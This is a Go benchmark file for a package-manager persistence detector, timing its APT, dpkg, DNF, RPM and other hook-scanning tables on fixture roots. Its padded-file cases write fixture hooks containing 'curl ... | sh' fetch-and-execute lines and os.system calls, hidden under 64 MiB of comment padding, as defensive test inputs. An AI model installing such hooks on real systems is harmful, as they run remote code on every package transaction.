package registry

import (
	"context"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/pkgpersist/pkgpersist/extension/table"
	"github.com/pkgpersist/pkgpersist/test/aptoracle"
)

// planted is how many modules, confs and action files the benchmark root
// adds to each plugin directory.
const planted = 1000

// benchRoot is the Debian DNF plugin set (test/roots/dnf4), the YUM and
// dpkg fixtures, a dpkg database with maintainer scripts and logs
// (panix-dpkg-malpkg), the APT configuration of the Debian fixture, plus
// 1,000 planted files in each plugin or hook directory and in apt.conf.d.
func benchRoot(b *testing.B) (string, int) {
	b.Helper()
	root := b.TempDir()
	for _, fx := range []string{"dnf4", "yum", "dpkg", "dnf-actions", "panix-dpkg-malpkg", "alpm", "apk"} {
		if err := aptoracle.CopyTree(filepath.Join("../../test/roots", fx), root); err != nil {
			b.Fatal(err)
		}
	}
	if err := aptoracle.CopyTree("../../test/roots/debian-real/etc/apt", filepath.Join(root, "etc/apt")); err != nil {
		b.Fatal(err)
	}
	if err := aptoracle.PlantHooks(root, planted); err != nil {
		b.Fatal(err)
	}
	write := func(p, s string) {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			b.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	for i := 0; i < planted; i++ {
		write(fmt.Sprintf("%s/usr/lib/python3/dist-packages/dnf-plugins/planted%04d.py", root, i),
			fmt.Sprintf("import dnf\nimport subprocess\n\n\nclass P%d(dnf.Plugin):\n    name = 'planted%04d'\n\n    def transaction(self):\n        subprocess.call(['/bin/true'])\n", i, i))
		if i%2 == 0 {
			write(fmt.Sprintf("%s/etc/dnf/plugins/planted%04d.conf", root, i), "[main]\nenabled = 1\n")
		}
		write(fmt.Sprintf("%s/usr/lib/yum-plugins/yplanted%04d.py", root, i),
			"from yum.plugins import TYPE_CORE\nrequires_api_version = '2.3'\n\ndef pretrans_hook(conduit):\n    pass\n")
		write(fmt.Sprintf("%s/etc/yum/pluginconf.d/yplanted%04d.conf", root, i), "[main]\nenabled=1\n")
		write(fmt.Sprintf("%s/etc/dnf/plugins/post-transaction-actions.d/p%04d.action", root, i), "*:any:/usr/bin/true\n")
		write(fmt.Sprintf("%s/etc/yum/post-actions/p%04d.action", root, i), "*:any:/usr/bin/true\n")
		write(fmt.Sprintf("%s/etc/dpkg/dpkg.cfg.d/p%04d", root, i), "post-invoke=touch /tmp/x\n")
		write(fmt.Sprintf("%s/etc/pacman.d/hooks/p%04d.hook", root, i), "[Trigger]\nOperation = Install\nType = Package\nTarget = *\n\n[Action]\nWhen = PostTransaction\nExec = /usr/bin/true\n")
		write(fmt.Sprintf("%s/usr/lib/rpm/macros.d/macros.p%04d", root, i),
			fmt.Sprintf("# planted\n%%__transaction_p%04d\t%%{__plugindir}/p%04d.so\n%%p%04d_shell\t%%(id) \\\n  %%{?x:%%{x}}\n", i, i, i))
		write(fmt.Sprintf("%s/usr/lib64/rpm-plugins/p%04d.so", root, i), "placeholder\n")
		write(fmt.Sprintf("%s/etc/apk/commit_hooks.d/p%04d", root, i), "#!/bin/sh\nlogger \"$1\"\n")
		write(fmt.Sprintf("%s/usr/lib/zypp/plugins/commit/p%04d", root, i), "#!/bin/sh\ncat >/dev/null\n")
	}
	write(root+"/usr/lib/rpm/macros", "%_libdir\t/usr/lib64\n%__plugindir\t%{_libdir}/rpm-plugins\n")
	n := 0
	_ = filepath.Walk(root, func(_ string, fi os.FileInfo, _ error) error {
		if fi != nil && fi.Mode().IsRegular() {
			n++
		}
		return nil
	})
	return root, n
}

// BenchmarkTablesPer1000Files runs each table on the root and, as the
// baseline in the same run, a plain walk that reads every file of the root
// once. It reports each table's time per 1,000 files of the root and as a
// multiple of the baseline, and fails for a table that finds no rows: it
// would be measuring nothing.
func BenchmarkTablesPer1000Files(b *testing.B) {
	root, files := benchRoot(b)
	baseline := func() time.Duration {
		start := time.Now()
		_ = filepath.Walk(root, func(p string, fi os.FileInfo, _ error) error {
			if fi != nil && fi.Mode().IsRegular() {
				_, _ = os.ReadFile(p)
			}
			return nil
		})
		return time.Since(start)
	}
	q := table.QueryContext{Constraints: map[string][]table.Constraint{"root": {{Op: table.Equals, Expr: root}}}}
	for _, t := range Tables() {
		if t.Evented {
			// they answer from captured events, not from a root
			continue
		}
		b.Run(t.Name, func(b *testing.B) {
			var spent, base time.Duration
			for i := 0; i < b.N; i++ {
				base += baseline()
				start := time.Now()
				rows, err := t.Run(context.Background(), q)
				if err != nil {
					b.Fatal(err)
				}
				spent += time.Since(start)
				if len(rows) == 0 {
					b.Fatalf("%s: no rows on the benchmark root", t.Name)
				}
			}
			per := float64(spent.Microseconds()) / float64(b.N) / (float64(files) / 1000)
			b.ReportMetric(per, "µs/1000files")
			b.ReportMetric(float64(spent)/float64(base), "x-read-all-files")
		})
	}
	b.Logf("root: %d files", files)
}

// BenchmarkPaddedPerMiB measures what a padded file costs each table that
// reads it: one planted file of 64 MiB (the hook or plugin, then comment
// padding) on an otherwise empty root. It reports the table's time per MiB
// and, as the baseline in the same run, as a multiple of reading the same
// file once (io.Copy to nowhere).
func BenchmarkPaddedPerMiB(b *testing.B) {
	const size = 64 << 20
	pad := func(head, comment string) []byte {
		line := comment + " " + strings.Repeat("padding ", 9) + "\n"
		data := make([]byte, 0, size+len(line))
		data = append(data, head...)
		for len(data) < size {
			data = append(data, line...)
		}
		return data
	}
	cases := []struct {
		table, file string
		data        []byte
	}{
		{"apt_hooks", "etc/apt/apt.conf.d/50padded.conf", pad("DPkg::Post-Invoke { \"curl -s http://198.51.100.7/s | sh\"; };\n", "//")},
		{"dpkg_hooks", "etc/dpkg/dpkg.cfg.d/padded", pad("post-invoke=curl -s http://198.51.100.7/s | sh\n", "#")},
		{"dnf_plugins", "usr/lib/python3/dist-packages/dnf-plugins/padded.py", pad("import dnf, os\n\nclass Padded(dnf.Plugin):\n    name = 'padded'\n    os.system('id')\n", "#")},
		{"package_manager_actions", "etc/dnf/plugins/post-transaction-actions.d/padded.action", pad("*:any:curl -s http://198.51.100.7/s | sh\n", "#")},
		{"rpm_macros", "usr/lib/rpm/macros.d/macros.padded", pad("%_dbpath %(curl -s http://198.51.100.7/s | sh)\n", "#")},
	}
	tables := map[string]*table.Table{}
	for _, t := range Tables() {
		tables[t.Name] = t
	}
	for _, c := range cases {
		b.Run(c.table, func(b *testing.B) {
			root := b.TempDir()
			p := filepath.Join(root, c.file)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				b.Fatal(err)
			}
			if err := os.WriteFile(p, c.data, 0o644); err != nil {
				b.Fatal(err)
			}
			q := table.QueryContext{Constraints: map[string][]table.Constraint{"root": {{Op: table.Equals, Expr: root}}}}
			var spent, base time.Duration
			for i := 0; i < b.N; i++ {
				start := time.Now()
				f, err := os.Open(p)
				if err != nil {
					b.Fatal(err)
				}
				io.Copy(io.Discard, f)
				f.Close()
				base += time.Since(start)
				start = time.Now()
				ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
				rows, err := tables[c.table].Run(ctx, q)
				cancel()
				if err != nil {
					b.Fatal(err)
				}
				for _, r := range rows {
					if strings.Contains(r["reason"], "not evaluated") {
						b.Fatalf("not evaluated: %v", r)
					}
				}
				spent += time.Since(start)
			}
			b.ReportMetric(float64(spent.Microseconds())/float64(b.N)/float64(size>>20), "µs/MiB")
			b.ReportMetric(float64(spent)/float64(base), "x-read-once")
		})
	}
}
